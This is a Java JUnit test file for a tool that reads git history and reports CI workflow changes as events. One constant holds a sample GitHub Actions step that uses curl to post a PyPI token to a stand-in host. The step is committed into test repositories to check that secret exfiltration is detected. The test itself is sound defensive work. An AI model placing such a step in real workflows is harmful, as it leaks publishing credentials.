package dev.pubwatch.cli.git;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.pubwatch.events.CiEvent;
import dev.pubwatch.formats.CredentialHasher;
import dev.pubwatch.formats.FormatContext;
import dev.pubwatch.formats.Formats;
import dev.pubwatch.formats.Parsed;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class GitCloneTest {
  private static final String STEAL =
      "run: curl -d 'k=${{ secrets.PYPI_TOKEN }}' https://collect.example.net\n";

  @TempDir private Path folder = Path.of("");

  private static List<String> lines(Path clone) throws IOException {
    try (InputStream in = GitClone.open(clone)) {
      return new String(in.readAllBytes(), StandardCharsets.UTF_8).lines().toList();
    }
  }

  /** What the format makes of each commit, by the commit's id. */
  private static Map<String, CiEvent> events(Path clone) throws IOException {
    FormatContext context = new FormatContext(new CredentialHasher(new byte[32]), null, null);
    Map<String, CiEvent> events = new TreeMap<>();
    for (String line : lines(clone)) {
      Parsed parsed =
          Formats.byName("git-workflow-log").parse(line.getBytes(StandardCharsets.UTF_8), context);
      CiEvent event = (CiEvent) ((Parsed.Events) parsed).events().get(0);
      events.put(event.getCi().getHeadSha(), event);
    }
    return events;
  }

  private static CiEvent of(Map<String, CiEvent> events, String commit) {
    return Objects.requireNonNull(events.get(commit), commit);
  }

  @Test
  void everyCommitIsALineAndWorkflowsAreRead() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    repo.remote("https://user:secret@Git.Example.org:8443/acme/tool.git");
    String first = repo.commit("Ada@Example.org", Map.of("README", "hello"));
    String ci = repo.commit("bob@example.org", Map.of(".github/workflows/ci.yml", "on: push\n"));
    String theft = repo.commit("ada@example.org", Map.of(".github/workflows/log.yml", STEAL));
    String both =
        repo.commit(
            "b[bot]@example.org",
            Map.of(".github/workflows/ci.yml", "on: [push]\n", "src/a", "1", "src/b", "2"));
    String gone = repo.remove("ada@example.org", ".github/workflows/log.yml");

    Map<String, CiEvent> events = events(folder.resolve("tool"));
    assertEquals(5, events.size());
    CiEvent plain = of(events, first);
    assertEquals("other:commit", plain.getAction());
    assertEquals("git:Git.Example.org/acme/tool@" + first, plain.getEventId());
    assertEquals("acme", plain.getOwner());
    assertEquals("ada@example.org", plain.getActor().getId());
    assertEquals("workflow:create", of(events, ci).getAction());

    CiEvent stolen = of(events, theft);
    assertEquals("workflow:create", stolen.getAction());
    assertEquals(".github/workflows/log.yml", stolen.getCi().getWorkflow());
    assertEquals(List.of("collect.example.net"), stolen.getCi().getEgressHosts());
    assertEquals(true, stolen.getCi().getSendsSecrets());
    assertEquals("1", stolen.getAttributes().get("secret_refs"));
    assertEquals(TestRepository.time(3), stolen.getTime());

    assertEquals("workflow:update", of(events, both).getAction());
    assertEquals("3", of(events, both).getAttributes().get("files_changed"));
    assertEquals("bot", of(events, both).getActor().getKind().toString());
    assertEquals("workflow:delete", of(events, gone).getAction());
    assertFalse(String.join("", lines(folder.resolve("tool"))).contains("secret@"));
  }

  @Test
  void mergesStandForWhatTheyBringAndUnmergedBranchesAreRead() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    String base = repo.commit("ada@example.org", Map.of("README", "1"));
    repo.branch("feature");
    String inside = repo.commit("eve@example.org", Map.of(".github/workflows/f.yml", "on: push\n"));
    repo.checkout("main");
    repo.commit("ada@example.org", Map.of("README", "2"));
    String merge = repo.merge("ada@example.org", "feature");
    repo.deleteBranch("feature");
    repo.branch("attack");
    String attack = repo.commit("ada@example.org", Map.of(".github/workflows/x.yml", STEAL));
    repo.checkout("main");

    Map<String, CiEvent> events = events(folder.resolve("tool"));
    assertEquals("workflow:create", of(events, merge).getAction());
    assertEquals("2", of(events, merge).getAttributes().get("parents"));
    assertFalse(events.containsKey(inside), "the merge says what it brought");
    assertEquals("workflow:create", of(events, attack).getAction());
    assertTrue(events.containsKey(base));
    assertEquals(4, events.size());
  }

  @Test
  void whatCannotBeReadIsSaid() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    String big = "on: push\n" + "#".repeat(2 << 20);
    repo.commit("ada@example.org", Map.of(".github/workflows/big.yml", big));
    String link = repo.link("ada@example.org", ".github/workflows/link.yml", "../../README");
    List<String> lines = lines(folder.resolve("tool"));
    assertEquals(
        ".github/workflows/big.yml is not read: it has 2,097,161 bytes",
        json(lines.get(1)).path("workflow_note").asText());
    assertEquals(link, json(lines.get(0)).path("commit").asText());
    assertEquals(0, json(lines.get(0)).path("workflow_changes").size(), "a link is no workflow");
  }

  @Test
  void theEndOfAShallowCloneCreatesNothing() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    repo.commit("ada@example.org", Map.of(".github/workflows/ci.yml", "on: push\n"));
    String last = repo.commit("ada@example.org", Map.of("README", "1"));
    Files.writeString(folder.resolve("tool/.git/shallow"), last + "\n");
    List<String> lines = lines(folder.resolve("tool"));
    assertEquals(1, lines.size());
    assertEquals(0, json(lines.get(0)).path("workflow_changes").size());
    assertTrue(json(lines.get(0)).path("workflow_note").asText().contains("shallow"));
  }

  @Test
  void aBareCloneReadsTheSame() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    repo.remote("git@git.example.org:acme/tool.git");
    repo.commit("ada@example.org", Map.of(".github/workflows/ci.yml", "on: push\n"));
    assertEquals(lines(folder.resolve("tool")), lines(folder.resolve("tool/.git")));
  }

  @Test
  void aMissingCommitEndsTheReadingWithItsName() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    String first = repo.commit("ada@example.org", Map.of("README", "1"));
    repo.commit("ada@example.org", Map.of("README", "2"));
    Files.delete(
        folder.resolve("tool/.git/objects/" + first.substring(0, 2) + "/" + first.substring(2)));
    IOException e = assertThrows(IOException.class, () -> lines(folder.resolve("tool")));
    assertTrue(String.valueOf(e.getMessage()).contains(first), e.getMessage());
  }

  @Test
  void whatIsNoRepositoryIsRefused() throws Exception {
    assertEquals("not a git repository", refusal(Files.createDirectory(folder.resolve("a"))));
    assertEquals("not a folder", refusal(Files.createFile(folder.resolve("b"))));
    assertEquals(List.of(), lines(TestRepository.at(folder.resolve("empty")).folder()));
  }

  private static String refusal(Path path) {
    IOException e = assertThrows(IOException.class, () -> GitClone.open(path));
    return String.valueOf(e.getMessage());
  }

  @ParameterizedTest
  @CsvSource({
    "https://github.com/acme/tool.git, github.com/acme/tool",
    "https://user:pw@git.example.org:8443/a/b/c/, git.example.org/a/b/c",
    "git@github.com:acme/tool.git, github.com/acme/tool",
    "ssh://git@git.example.org:22/acme/tool, git.example.org/acme/tool",
    "/srv/git/tool.git, ''",
    "../tool, ''",
  })
  void namesARepositoryAfterItsRemote(String url, String name) {
    assertEquals(name, GitClone.ofUrl(url));
  }

  private static JsonNode json(String line) throws IOException {
    return new ObjectMapper().readTree(line);
  }

  @Test
  void theSameLinesEachTime() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    for (int i = 0; i < 5; i++) {
      repo.commit("ada@example.org", Map.of(".github/workflows/w" + i + ".yml", STEAL + i));
    }
    List<String> once = new ArrayList<>(lines(folder.resolve("tool")));
    assertEquals(once, lines(folder.resolve("tool")));
    assertEquals(5, once.size());
  }
}
